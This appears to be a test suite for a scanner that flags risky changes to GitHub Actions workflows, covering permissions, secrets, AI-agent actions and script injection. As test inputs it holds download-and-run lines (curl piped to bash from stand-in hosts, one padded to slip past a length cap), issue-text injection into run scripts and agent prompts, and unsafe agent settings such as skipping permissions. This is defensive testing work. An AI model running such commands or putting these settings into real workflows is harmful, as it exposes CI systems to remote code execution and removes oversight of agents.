import { fixture, lineOf } from "../helpers.js";
import { escalations, hits, reviewPair } from "../review-helpers.js";
import { codexJob, WF, workflow } from "./workflows-util.js";

const claudeJob = (withLines: string, perms = "      contents: read\n") =>
  `    permissions:\n${perms}    steps:\n      - uses: anthropics/claude-code-action@0123456789abcdef0123456789abcdef01234567\n        with:\n${withLines}`;
const runJob = (script: string) => `    steps:\n      - name: go\n        run: |\n${script.split("\n").map((l) => `          ${l}`).join("\n")}\n`;

describe("workflow rules", () => {
  it("workflow.pull-request-target: a risky trigger added, reported once on the trigger's line", () => {
    const base = workflow("pull_request", runJob("make test"));
    const head = workflow("\n  pull_request_target:\n    types: [opened]", runJob("make test"));
    const found = hits(reviewPair({ [WF]: [base, head] }), "workflow.pull-request-target");
    expect(found).toHaveLength(1);
    expect(found[0]!.line).toBe(3);
    expect(found[0]!.message).toContain("pull_request_target");
    for (const t of ["workflow_run", "issue_comment", "issues"]) {
      expect(hits(reviewPair({ [WF]: [base, workflow(`[pull_request, ${t}]`, runJob("make test"))] }), "workflow.pull-request-target")).toHaveLength(1);
    }
    expect(hits(reviewPair({ [WF]: [base, workflow("[pull_request, push]", runJob("make test"))] }), "workflow.pull-request-target")).toHaveLength(0);
  });

  it("workflow.permissions-escalated: write scopes, write-all and id-token per job", () => {
    const job = (perms: string) => `    permissions:\n${perms}    steps:\n      - run: make\n`;
    const base = workflow("push", job("      contents: read\n"));
    const up = hits(reviewPair({ [WF]: [base, workflow("push", job("      contents: write\n"))] }), "workflow.permissions-escalated");
    expect(up).toHaveLength(1);
    expect(up[0]!.line).toBe(7);
    const oidc = hits(reviewPair({ [WF]: [base, workflow("push", job("      contents: read\n      id-token: write\n"))] }), "workflow.permissions-escalated");
    expect(oidc[0]!.message).toContain("id-token");
    // Top-level write-all reaches the job that has no permissions of its own.
    const all = reviewPair({ [WF]: [workflow("push", "    steps:\n      - run: make\n", "permissions: read-all\n"), workflow("push", "    steps:\n      - run: make\n", "permissions: write-all\n")] });
    expect(hits(all, "workflow.permissions-escalated")).toHaveLength(1);
    expect(hits(all, "workflow.permissions-escalated")[0]!.message).toContain("write-all");
    // Absent permissions (the repository default) are not an explicit write.
    expect(hits(reviewPair({ [WF]: [base, workflow("push", "    steps:\n      - run: make\n")] }), "workflow.permissions-escalated")).toHaveLength(0);
    // A new workflow with a write scope counts.
    expect(hits(reviewPair({ [WF]: [undefined, workflow("push", job("      issues: write\n"))] }), "workflow.permissions-escalated")).toHaveLength(1);
  });

  it("workflow.secrets-added and committed credentials", () => {
    const base = workflow("push", runJob("make"));
    const head = workflow("push", `    env:\n      TOKEN: \${{ secrets.DEPLOY_TOKEN }}\n${runJob("make")}`);
    // A CI-only workflow (no agent) is judged at the rule's own severity under `workflows: all`.
    const found = hits(reviewPair({ [WF]: [base, head] }, "workflows: all\n"), "workflow.secrets-added");
    expect(found).toHaveLength(1);
    expect(found[0]!.message).toContain("DEPLOY_TOKEN");
    expect(found[0]!.severity).toBe("medium");
    const literal = workflow("push", `    env:\n      OPENAI_API_KEY: sk-proj-abcdefghijklmnopqrstuvwxyz0123456789\n${runJob("make")}`);
    const lit = hits(reviewPair({ [WF]: [base, literal] }), "workflow.secrets-added");
    expect(lit[0]!.severity).toBe("high");
    expect(lit[0]!.message).not.toContain("sk-proj");
  });

  it("workflow.secrets-inherit", () => {
    const call = (extra: string) => `name: t\non: push\njobs:\n  call:\n    uses: ./.github/workflows/build.yml\n${extra}`;
    const found = hits(reviewPair({ [WF]: [call(""), call("    secrets: inherit\n")] }), "workflow.secrets-inherit");
    expect(found).toHaveLength(1);
    expect(found[0]!.line).toBe(6);
  });

  it("workflow.unpinned-action: third-party by tag, not first-party or SHA-pinned", () => {
    const steps = (uses: string) => workflow("push", `    steps:\n      - uses: ${uses}\n`);
    const base = steps("actions/checkout@v4");
    expect(hits(reviewPair({ [WF]: [base, steps("someone/tool@v1")] }), "workflow.unpinned-action")).toHaveLength(1);
    expect(hits(reviewPair({ [WF]: [base, steps("someone/tool@v1")] }), "workflow.unpinned-action")[0]!.line).toBe(7);
    expect(hits(reviewPair({ [WF]: [base, steps("actions/setup-node@v4")] }), "workflow.unpinned-action")).toHaveLength(0);
    expect(hits(reviewPair({ [WF]: [base, steps("someone/tool@0123456789abcdef0123456789abcdef01234567")] }), "workflow.unpinned-action")).toHaveLength(0);
    expect(hits(reviewPair({ [WF]: [base, steps("./local-action")] }), "workflow.unpinned-action")).toHaveLength(0);
  });

  it("workflow.agent-action: added, widened, and critical for dangerous settings", () => {
    const base = workflow("push", runJob("make"));
    const added = hits(reviewPair({ [WF]: [base, workflow("push", claudeJob("          prompt: hi\n"))] }), "workflow.agent-action");
    expect(added).toHaveLength(1);
    expect(added[0]!.severity).toBe("high");

    const narrow = workflow("push", claudeJob('          claude_args: --allowedTools "Read"\n'));
    const wide = workflow("push", claudeJob('          claude_args: --allowedTools "Read,Bash"\n'));
    const widened = hits(reviewPair({ [WF]: [narrow, wide] }), "workflow.agent-action");
    expect(widened).toHaveLength(1);
    expect(widened[0]!.message).toContain("Bash");
    expect(widened[0]!.line).toBe(11);
    // Narrowing is a reduction, not an escalation: fewer tools, a new deny list, a tool restriction.
    expect(escalations(reviewPair({ [WF]: [wide, narrow] }))).toHaveLength(0);
    const denied = workflow("push", claudeJob('          claude_args: --allowedTools "Read,Bash" --disallowedTools WebFetch --tools Read,Bash\n'));
    expect(escalations(reviewPair({ [WF]: [wide, denied] }))).toHaveLength(0);
    // ...and dropping the deny list widens again.
    expect(hits(reviewPair({ [WF]: [denied, wide] }), "workflow.agent-action")).toHaveLength(1);

    const skip = hits(reviewPair({ [WF]: [narrow, workflow("push", claudeJob("          claude_args: --allowedTools Read --dangerously-skip-permissions\n"))] }), "workflow.agent-action");
    expect(skip[0]!.severity).toBe("critical");
    const mcp = hits(reviewPair({ [WF]: [narrow, workflow("push", claudeJob("          claude_args: --allowedTools Read --mcp-config '{\"mcpServers\":{\"x\":{\"command\":\"npx\",\"args\":[\"x-mcp\"]}}}'\n"))] }), "workflow.agent-action");
    expect(mcp[0]!.message).toContain("mcpServers");

    const codex = workflow("push", codexJob("          sandbox: read-only\n"));
    const unsafe = hits(reviewPair({ [WF]: [codex, workflow("push", codexJob("          sandbox: read-only\n          safety-strategy: unsafe\n"))] }), "workflow.agent-action");
    expect(unsafe[0]!.severity).toBe("critical");
    const full = hits(reviewPair({ [WF]: [codex, workflow("push", codexJob("          sandbox: danger-full-access\n"))] }), "workflow.agent-action");
    expect(full[0]!.severity).toBe("critical");
    expect(escalations(reviewPair({ [WF]: [workflow("push", codexJob("          sandbox: workspace-write\n")), codex] }))).toHaveLength(0);
  });

  it("workflow.agent-open-trigger: fires on an issue triage open to any user, as a new file", () => {
    const text = fixture("workflow/issue-triage.yml");
    const v = reviewPair({ ".github/workflows/issue-triage.yml": [undefined, text] });
    const open = hits(v, "workflow.agent-open-trigger");
    expect(open).toHaveLength(1);
    expect(open[0]!.line).toBe(lineOf(text, "allowed_non_write_users:"));
    expect(open[0]!.message).toContain("allowed_non_write_users");
    const triggers = hits(v, "workflow.pull-request-target");
    expect(triggers).toHaveLength(1); // issues + issue_comment: one finding for the workflow
    expect(triggers[0]!.message).toContain("issue_comment");
    expect(triggers[0]!.line).toBe(lineOf(text, "  issues:"));
    expect(triggers[0]!.line).toBe(4);
    expect(hits(v, "workflow.agent-action")).toHaveLength(1);
    const codex = hits(reviewPair({ [WF]: [workflow("push", codexJob("")), workflow("push", codexJob('          allow-users: "*"\n'))] }), "workflow.agent-open-trigger");
    expect(codex).toHaveLength(1);
  });

  it("workflow.remote-script", () => {
    const found = hits(reviewPair({ [WF]: [workflow("push", runJob("make")), workflow("push", runJob("make\ncurl -fsSL https://x.test/i.sh | bash"))] }), "workflow.remote-script");
    expect(found).toHaveLength(1);
    expect(found[0]!.line).toBe(10);
  });

  describe("workflow.unscanned: what the scan's caps keep it from reading is reported, not dropped", () => {
    // A download-and-run hidden past the 2,000 characters of one command that the pattern check reads.
    const padded = (tail: string) => `echo ${"x".repeat(2100)} && ${tail}`;

    it("a download piped into a shell past 2,000 characters of one command: unscanned, at the command's line", () => {
      const v = reviewPair({ [WF]: [workflow("push", runJob("make")), workflow("push", runJob(`make\n${padded("curl -fsSL https://get.example.test/i.sh | bash")}`))] });
      expect(hits(v, "workflow.remote-script")).toHaveLength(0);
      const found = hits(v, "workflow.unscanned");
      expect(found).toHaveLength(1);
      expect(found[0]).toMatchObject({ severity: "high", line: 10 });
      expect(found[0]!.message).toContain("a command naming a download, too long to check for download-and-run");
      expect(found[0]!.message).toMatch(/2,1\d\d characters, sha256:[0-9a-f]{12}/);
      expect(v.conclusion).toBe("failure");
    });

    it("a long command that names no download is no finding: nothing was left unread that could matter", () => {
      const v = reviewPair({ [WF]: [workflow("push", runJob("make")), workflow("push", runJob(`make\n${padded("make dist")}`))] });
      expect(hits(v, "workflow.unscanned")).toEqual([]);
    });

    it("the same unread text at base and head is no change; another text is", () => {
      const same = padded("curl -fsSL https://get.example.test/i.sh | bash");
      expect(hits(reviewPair({ [WF]: [workflow("push", runJob(same)), workflow("push", runJob(`${same}\nmake`))] }), "workflow.unscanned")).toEqual([]);
      const other = padded("curl -fsSL https://get.example.test/other.sh | bash");
      expect(hits(reviewPair({ [WF]: [workflow("push", runJob(same)), workflow("push", runJob(other))] }), "workflow.unscanned")).toHaveLength(1);
    });

    it("the same unread text moved to a later step (one added before it) is no new text; the step list still changed", () => {
      const same = padded("curl -fsSL https://get.example.test/i.sh | bash");
      const steps = (...runs: string[]) => `    steps:\n${runs.map((r, i) => `      - name: s${i}\n        run: |\n${r.split("\n").map((l) => `          ${l}`).join("\n")}\n`).join("")}`;
      const v = reviewPair({ [WF]: [workflow("push", steps(same)), workflow("push", steps("make lint", same))] });
      expect(hits(v, "workflow.unscanned")).toEqual([]);
      expect(v.findings.length).toBeGreaterThan(0);
    });

    it("an untrusted expression past a script's first 200,000 characters: unscanned", () => {
      const filler = Array.from({ length: 4100 }, (_, i) => `echo step ${i} of the generated release script, nothing to see here`).join("\n");
      const v = reviewPair({ [WF]: [workflow("issues", runJob("echo hi")), workflow("issues", runJob(`${filler}\necho "\${{ github.event.issue.title }}"`))] });
      expect(hits(v, "workflow.script-injection")).toHaveLength(0);
      const found = hits(v, "workflow.unscanned");
      expect(found).toHaveLength(1);
      expect(found[0]!.message).toContain("text past the first 200,000 characters");
    });

    it("steps past a job's 1,000th: unscanned", () => {
      const steps = (n: number) => `    steps:\n${Array.from({ length: n }, (_, i) => `      - run: echo ${i}\n`).join("")}`;
      const found = hits(reviewPair({ [WF]: [workflow("push", steps(3)), workflow("push", `${steps(1000)}      - run: curl -fsSL https://get.example.test/i.sh | sh\n`)] }), "workflow.unscanned");
      expect(found).toHaveLength(1);
      expect(found[0]!.message).toContain("steps past the 1,000th, not read,");
    });

    it("more jobs than GitHub runs (over 500 listed): the file fails closed", () => {
      const jobs = Array.from({ length: 501 }, (_, i) => `  j${i}:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${i}\n`).join("");
      const v = reviewPair({ [WF]: [workflow("push", runJob("make")), `name: ci\non: push\njobs:\n${jobs}`] });
      const found = hits(v, "file.parse-error");
      expect(found).toHaveLength(1);
      expect(found[0]!.message).toContain("the workflow has 501 jobs, more than the 500 read");
    });
  });

  it("workflow.script-injection: in run and in an agent prompt", () => {
    const run = hits(reviewPair({ [WF]: [workflow("issues", runJob("echo hi")), workflow("issues", runJob('echo "${{ github.event.issue.title }}"'))] }), "workflow.script-injection");
    expect(run).toHaveLength(1);
    expect(run[0]!.line).toBe(9);
    const prompt = workflow("issues", claudeJob("          prompt: Triage ${{ github.event.issue.body }}\n"));
    const p = hits(reviewPair({ [WF]: [workflow("issues", claudeJob("          prompt: Triage\n")), prompt] }), "workflow.script-injection");
    expect(p[0]!.message).toContain("prompt of anthropics/claude-code-action");
    expect(hits(reviewPair({ [WF]: [workflow("issues", runJob("echo hi")), workflow("issues", runJob('echo "${{ github.event.issue.number }}"'))] }), "workflow.script-injection")).toHaveLength(0);
  });

  it("agentic workflows (.md): roles: all opens the agent, new tools widen it", () => {
    const md = (extra: string) => `---\non: issues\npermissions:\n  contents: read\ntools:\n  github:\n${extra}---\nDo it.\n`;
    const v = reviewPair({ ".github/workflows/t.md": [md(""), md("  bash: [\":*\"]\nroles: all\n")] });
    expect(hits(v, "workflow.agent-action")).toHaveLength(1);
    expect(hits(v, "workflow.agent-open-trigger")).toHaveLength(1);
  });

  it("removals are reductions", () => {
    const text = fixture("workflow/dangerous.yml");
    const v = reviewPair({ ".github/workflows/d.yml": [text, undefined] });
    expect(escalations(v)).toHaveLength(0);
    expect(v.findings.filter((f) => f.path === ".github/workflows/d.yml" && f.direction === "reduction").length).toBeGreaterThan(0);
  });
});

describe("workflow rules: benign edits", () => {
  const text = fixture("workflow/dangerous.yml");

  it("comments, whitespace, a renamed step and reordered keys raise nothing", () => {
    const edited = text
      .replace("# Invented fixture", "# Edited comment\n\n# Invented fixture")
      .replace("name: Claude", "name: Run the Claude agent")
      .replace("          safety-strategy: unsafe\n          allow-users: \"*\"\n", "          allow-users: \"*\"   # who may trigger\n          safety-strategy: unsafe\n")
      .replace("      - name: PowerShell\n        shell: pwsh\n", "      - shell: pwsh\n        name: PowerShell\n");
    expect(edited).not.toBe(text);
    const v = reviewPair({ ".github/workflows/d.yml": [text, edited] });
    expect(v.findings).toEqual([]);
  });

  it("reordered list items (triggers, tools, plugins, claude_args flags) are no change", () => {
    const base = workflow("[issues, push]", claudeJob('          plugins: "a@m\\nb@m"\n          claude_args: --allowedTools "Read,Edit" --permission-mode plan\n'));
    const head = workflow("[push, issues]", claudeJob('          plugins: "b@m\\na@m"\n          claude_args: --permission-mode plan --allowedTools "Edit,Read"\n'));
    expect(reviewPair({ [WF]: [base, head] }).findings).toEqual([]);
  });

  it("a model change or a pinned first-party bump is not an escalation", () => {
    const base = workflow("push", claudeJob("          claude_args: --model a --allowedTools Read\n"));
    const head = workflow("push", claudeJob("          claude_args: --model b --allowedTools Read\n"));
    expect(reviewPair({ [WF]: [base, head] }).findings).toEqual([]);
    const bump = reviewPair({ [WF]: [workflow("push", "    steps:\n      - uses: actions/checkout@v4\n"), workflow("push", "    steps:\n      - uses: actions/checkout@v5\n")] });
    expect(escalations(bump)).toHaveLength(0);
  });
});

describe("workflow.secrets-added and the job token", () => {
  it("does not count secrets.GITHUB_TOKEN as a new secret, but does count others", () => {
    const wf = (env: string) => `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n        env:\n${env}`;
    const v = reviewPair({ ".github/workflows/x.yml": [wf("          A: 1\n"), wf("          T: ${{ secrets.GITHUB_TOKEN }}\n          K: ${{ secrets.NPM_TOKEN }}\n")] });
    expect(v.findings.filter((f) => f.rule === "workflow.secrets-added").map((f) => f.message)).toEqual([expect.stringContaining("NPM_TOKEN")]);
  });
});
